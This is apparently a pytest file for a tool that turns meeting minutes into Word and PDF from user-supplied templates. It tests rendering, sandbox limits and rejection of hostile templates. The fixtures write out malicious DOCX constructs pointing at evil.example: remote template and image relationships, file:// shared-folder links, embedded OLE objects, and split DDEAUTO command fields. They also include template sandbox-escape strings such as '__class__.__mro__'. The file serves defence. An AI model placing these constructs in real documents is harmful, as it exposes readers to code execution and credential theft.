"""Minutes as Word and PDF, and templates that an office brings or that mean harm."""

import io
import zipfile
from dataclasses import replace

import pypdfium2
import pytest
from docx import Document

from kokreasi.writing import child
from kokreasi.writing.errors import Code, WritingError
from kokreasi.writing.harm import refuse_harm
from kokreasi.writing.tests.values import NASTY, values

SAID = (NASTY, "Butir bawah", "Butir terbawah", "Dua sektor dahulu", "Menyusun daftar")


def text_of_word(written: bytes) -> str:
    document = Document(io.BytesIO(written))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(paragraph.text for paragraph in document.paragraphs), *cells])


def text_of_pdf(written: bytes) -> str:
    pages = pypdfium2.PdfDocument(written)
    text = " ".join(page.get_textpage().get_text_range() for page in pages)
    return " ".join(text.split())


def template(*paragraphs: str) -> bytes:
    document = Document()
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    written = io.BytesIO()
    document.save(written)
    return written.getvalue()


def test_word_says_everything_and_takes_text_as_text() -> None:
    written = child.word(values())

    text = text_of_word(written)
    assert [
        part for part in (*SAID, "Kementerian Contoh", "28 September 2018") if part not in text
    ] == []
    assert "{%" not in text


def test_pdf_says_everything_takes_text_as_text_and_is_tagged() -> None:
    written = child.pdf("notula", values())

    text = text_of_pdf(written)
    assert [part for part in SAID if part not in text] == []
    assert b"/StructTreeRoot" in written


def test_what_is_empty_leaves_no_heading() -> None:
    bare = values(agreements=[], follow_ups=[], withheld=[], signatures=[], letterhead=[])

    word, pdf = text_of_word(child.word(bare)), text_of_pdf(child.pdf("notula", bare))

    for heading in ("Kesepakatan", "Tidak dibuka", "Tindak lanjut", "Pimpinan"):
        assert heading not in word
        assert heading not in pdf


def test_a_draft_says_so_in_both() -> None:
    draft = values(is_draft=True, fingerprint="")

    assert "DRAF" in text_of_word(child.word(draft))
    assert "DRAF" in text_of_pdf(child.pdf("notula", draft))


def test_a_long_note_is_written_within_the_limits() -> None:
    points = [
        {"number": f"{n}.", "level": n % 3, "by": "Ketua", "text": "Panjang sekali " * 30}
        for n in range(1, 201)
    ]

    written = child.pdf("notula", values(sections=[{"title": "Pembahasan", "points": points}]))

    assert len(pypdfium2.PdfDocument(written)) > 10


def test_an_office_brings_its_own_template() -> None:
    own = template(
        "Kantor kami: {{ reference }}", "{% for each in follow_ups %}{{ each.action }}{% endfor %}"
    )

    assert text_of_word(child.word(values(), template=own)).startswith(
        "Kantor kami: RPT-2018-001\nMenyusun daftar"
    )


@pytest.mark.parametrize(
    ("given", "code"),
    [
        (b"%PDF-1.7", Code.NOT_WORD),
        (b"", Code.NOT_WORD),
        (b"PK\x03\x04 cut off", Code.BROKEN),
        (template("{{ title"), Code.SYNTAX),
        (template("{% for x in follow_ups %}"), Code.SYNTAX),
        (template("{{ no_such_field }}"), Code.UNKNOWN_FIELD),
        (template("{{ title.no_such_part }}"), Code.UNKNOWN_FIELD),
        (template("{{ title.__class__.__mro__ }}"), Code.FORBIDDEN),
        (template("{{ follow_ups.append(1) }}"), Code.FORBIDDEN),
        (template("{% for a in range(10**9) %}x{% endfor %}"), Code.FORBIDDEN),
    ],
)
def test_a_template_that_cannot_be_filled_is_refused_by_its_reason(given, code) -> None:
    with pytest.raises(WritingError) as refusal:
        child.word(values(), template=given)

    assert refusal.value.code == code


def test_a_template_that_never_ends_is_stopped(monkeypatch) -> None:
    slow = "{% for a in range(90000) %}{% for b in range(90000) %}{% endfor %}{% endfor %}"
    few = child.Limits(memory_bytes=child.LIMITS.memory_bytes, cpu_seconds=2, wall_seconds=20)
    monkeypatch.setattr(child, "LIMITS", few)

    with pytest.raises(WritingError) as refusal:
        child.word(values(), template=template(slow))

    assert refusal.value.code == Code.TOOK_TOO_LONG


def test_a_template_sees_no_secret_of_the_server(monkeypatch) -> None:
    monkeypatch.setenv("KOKREASI_SECRET_KEY", "geheim")

    with pytest.raises(WritingError):
        child.word(values(), template=template("{{ environ }}"))


# What a template would have the reader's machine do


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATED = "word/_rels/document.xml.rels"


def rebuilt(parts) -> bytes:
    """Give a template whose parts are changed or added, by name."""
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template("{{ title }}"))) as sound:
        whole = {name: sound.read(name) for name in sound.namelist()}
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (whole | parts(whole)).items():
            archive.writestr(name, content)
    return written.getvalue()


def related(kind: str, target: str, mode: str = "External"):
    relation = (
        f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    )
    end = b"</Relationships>"
    return lambda whole: {RELATED: whole[RELATED].replace(end, relation.encode() + end)}


def beginning(xml: str):
    name, start = "word/document.xml", b"<w:body>"
    return lambda whole: {name: whole[name].replace(start, start + xml.encode())}


def field(*pieces: str) -> str:
    """Write a field as Word does, its code in as many pieces as wanted."""
    codes = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    marks = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end")]
    return f"<w:p>{marks[0]}{codes}{marks[1]}</w:p>"


HARM = {
    "picture elsewhere": related("image", "http://evil.example/x.png"),
    "template elsewhere": related("attachedTemplate", "http://evil.example/t.dotm"),
    "shared folder": related("image", "file://evil.example/share/x.png"),
    "link to a shared folder": related("hyperlink", "file://evil.example/share"),
    "remote without saying so": related("image", "http://evil.example/x.png", "Internal"),
    "program inside": related("oleObject", "embeddings/ole.docx", "Internal"),
    "page inside": related("aFChunk", "page.xml", "Internal"),
    "unknown part": lambda _whole: {"word/embeddings/a.bin": b"MZ"},
    "part without an ending": lambda _whole: {"word/footer": b"<w:ftr/>"},
    "simple field": beginning(
        '<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://evil.example/x&quot;"/></w:p>'
    ),
    "field in pieces": beginning(field("DD", "EAUTO cmd")),
    "field that another one builds": beginning(field("QUOTE 68 68 69")),
    "drawing": beginning('<v:imagedata xmlns:v="urn:v" src="http://evil.example/x.png"/>'),
}


@pytest.mark.parametrize("harm", HARM)
def test_what_harms_its_reader_is_seen(harm) -> None:
    with pytest.raises(WritingError) as refusal:
        refuse_harm(rebuilt(HARM[harm]))

    assert refusal.value.code == Code.FORBIDDEN


@pytest.mark.parametrize("harm", ["picture elsewhere", "template elsewhere", "field in pieces"])
def test_minutes_never_leave_with_what_harms_their_reader(harm) -> None:
    with pytest.raises(WritingError) as refusal:
        child.word(values(), template=rebuilt(HARM[harm]))

    assert refusal.value.code == Code.FORBIDDEN


def test_what_the_program_of_a_template_makes_is_looked_at_too() -> None:
    made = template("""{{ "<w:fldSimple w:instr='DDE cmd'/>"|safe }}""")

    with pytest.raises(WritingError) as refusal:
        child.word(values(), template=made)

    assert refusal.value.code == Code.FORBIDDEN


def test_links_and_page_numbers_are_no_harm() -> None:
    linked = rebuilt(related("hyperlink", "https://kantor.example.org/"))
    numbered = rebuilt(beginning(field(" PAGE ") + field('HYPERLINK "https://kantor.example.org"')))

    assert child.word(values(), template=linked)
    assert child.word(values(), template=numbered)


def test_a_template_cannot_write_without_end(monkeypatch) -> None:
    limits = replace(child.LIMITS, output_bytes=10_000)
    monkeypatch.setattr(child, "LIMITS", limits)

    with pytest.raises(WritingError) as refusal:
        child.word(values())

    assert refusal.value.code == Code.TOO_LARGE


@pytest.mark.parametrize("sign", ["👍🏽", "中文"])
def test_a_sign_that_no_font_has_does_not_stop_a_document(sign) -> None:
    written = child.pdf("notula", values(summary=f"Setuju {sign} sekali"))

    assert "sekali" in text_of_pdf(written)
    assert b"/StructTreeRoot" in written
